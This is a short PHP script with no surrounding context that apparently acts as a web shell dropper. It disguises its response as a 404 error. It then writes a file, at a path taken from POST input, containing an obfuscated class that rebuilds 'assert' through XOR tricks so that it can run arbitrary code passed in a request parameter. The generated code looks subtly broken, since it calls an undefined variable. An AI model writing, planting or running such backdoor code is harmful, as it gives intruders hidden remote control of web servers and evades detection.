<?php
header('HTTP/1.1 404');
$t = str_shuffle('ABCDEFGHIJKLMNOPQRSTUVWXYZ');
$n = substr($t, 0, 5);
ob_start();
print "<?php \n";
print "class {$n} { public \$c = '';\n function __destruct() {\n";
foreach (str_split('assert') as $i => $ch) {
    $k = chr(mt_rand(65, 90));
    print "\$_{$i}='{$k}'^\"\\x" . bin2hex($k ^ $ch) . "\";\n";
}
print 'return @$db($this->c); } }';
print "\n\$v = new {$n}();\n@\$v->c = \$_REQUEST['z'];\n";
$h = fopen($_POST['name'], 'w');
fwrite($h, ob_get_clean());
fclose($h);
